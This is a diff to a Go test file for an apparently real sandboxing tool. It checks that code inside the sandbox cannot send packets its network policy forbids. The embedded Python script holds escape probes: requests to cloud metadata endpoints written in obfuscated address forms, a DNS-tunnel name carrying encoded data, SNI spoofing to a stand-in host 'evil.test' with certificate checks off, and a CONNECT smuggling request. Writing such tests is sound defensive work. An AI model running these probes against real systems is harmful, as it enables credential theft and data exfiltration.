@@ -16,13 +16,14 @@ import (
 	"time"
 
 	"github.com/glovebox-dev/glovebox/internal/apiclient"
+	"github.com/glovebox-dev/glovebox/internal/backend/backendtest"
 	"github.com/glovebox-dev/glovebox/internal/egress/egresstest"
 	"github.com/glovebox-dev/glovebox/sandbox"
 )
 
 // insideAttacks is what code in a sandbox can try. internal/egress tries more, as root within the sandbox's network.
 const insideAttacks = `
-import socket, subprocess
+import socket, ssl, urllib.request
 def tcp(host, port, data=b"canary"):
     s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET); s.settimeout(5)
     try: s.connect((host, port)); s.sendall(data); s.recv(100)
@@ -35,15 +36,19 @@ def udp(host, port):
 for host in ["169.254.169.254", "100.100.100.200", "10.0.0.1", "172.17.0.1", "192.168.1.1", "5.5.5.2", "198.18.0.1", "::ffff:169.254.169.254", "fd00:ec2::254", "2a00:5::2", "64:ff9b::a9fe:a9fe"]:
     for port in 22, 80, HOSTPORT: tcp(host, port); udp(host, port)
 for host in "255.255.255.255", "224.0.0.251", "ff02::1", "fe80::1", "198.18.255.255": udp(host, 5353)
-for name in "metadata.test", "host.test", "0xa9fea9fe", "2852039166", "169.254.43518", "[::ffff:a9fe:a9fe]", "c2VjcmV0.tunnel.test":
-    subprocess.run(["curl", "-s", "-g", "-m", "5", "http://%s/" % name], stdout=subprocess.DEVNULL)
+def get(url):
+    try: return urllib.request.urlopen(url, timeout=5).read().decode()
+    except (OSError, ValueError) as e: return e
+for name in "metadata.test", "host.test", "0xa9fea9fe", "2852039166", "169.254.43518", "[::ffff:a9fe:a9fe]", "c2VjcmV0.tunnel.test": get("http://%s/" % name)
 for family, kind, protocol in [(2, 3, 1), (2, 3, 255), (10, 3, 58), (17, 3, 3), (2, 2, 1), (16, 3, 0), (2, 2, 136), (2, 1, 132)]:
     try: socket.socket(family, kind, protocol); print("socket", family, kind, protocol)
     except OSError: pass
-subprocess.run(["curl", "-s", "-L", "-m", "5", "http://good.test/?to=http://169.254.169.254/"], stdout=subprocess.DEVNULL)
-subprocess.run(["curl", "-s", "-k", "-m", "5", "--connect-to", "evil.test:443:good.test:443", "https://evil.test/"], stdout=subprocess.DEVNULL)
+get("http://good.test/?to=http://169.254.169.254/")
+context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
+try: context.wrap_socket(socket.create_connection(("good.test", 443), 5), server_hostname="evil.test")
+except OSError: pass
 tcp("93.184.216.34", 80, b"CONNECT evil.test:443 HTTP/1.1\r\nHost: good.test\r\n\r\n")
-print(subprocess.run(["curl", "-sS", "http://good.test/done"], capture_output=True).stdout.decode())
+print(get("http://good.test/done"))
 `
 
 // TestCanariesOfRun: code in a sandbox causes no packet but those that its policy allows.
@@ -69,12 +74,12 @@ func TestCanariesOfRun(t *testing.T) {
 	}
 	defer own.Close()
 	code := strings.ReplaceAll(insideAttacks, "HOSTPORT", strconv.Itoa(own.Addr().(*net.TCPAddr).Port))
-	for _, backend := range []string{"native", "gvisor"} {
+	for _, backend := range []string{"native", "gvisor", "docker", "podman"} {
 		for _, c := range []struct {
 			flags        []string
 			passes, asks string
 		}{
-			{[]string{"--network", "full"}, "[tcp 93.184.216.34:443 tcp 93.184.216.34:80]", "c2vjcmv0.tunnel.test evil.test good.test host.test metadata.test"},
+			{[]string{"--network", "full"}, "[tcp 93.184.216.34:443 tcp 93.184.216.34:80]", "c2vjcmv0.tunnel.test good.test host.test metadata.test"},
 			{[]string{"--allow", "good.test"}, "[syn 93.184.216.34:443 tcp 93.184.216.34:80]", "good.test"},
 		} {
 			t.Run(backend+" "+c.flags[1], func(t *testing.T) {
@@ -82,6 +87,16 @@ func TestCanariesOfRun(t *testing.T) {
 				m := testApp(t).Main
 				m.Stdout, m.Stderr = &out, &errs
 				args := append([]string{"run", "--backend", backend, "--allow-unenforced", "memory"}, c.flags...)
+				if variable := map[string]string{"docker": "DOCKER_HOST", "podman": "CONTAINER_HOST"}[backend]; variable != "" {
+					host, own := backendtest.EngineHost(t, backend), m.LookupEnv
+					m.LookupEnv = func(name string) (string, bool) {
+						if name == variable {
+							return host, true
+						}
+						return own(name)
+					}
+					args = append(args, "--image", backendtest.EngineImage)
+				}
 				if code := m.Run(t.Context(), append(args, "-l", "python", "-c", code)); code != 0 || out.String() != "good.test/done\n" {
 					t.Errorf("exit code %d, %q, %s", code, &out, &errs)
 				}
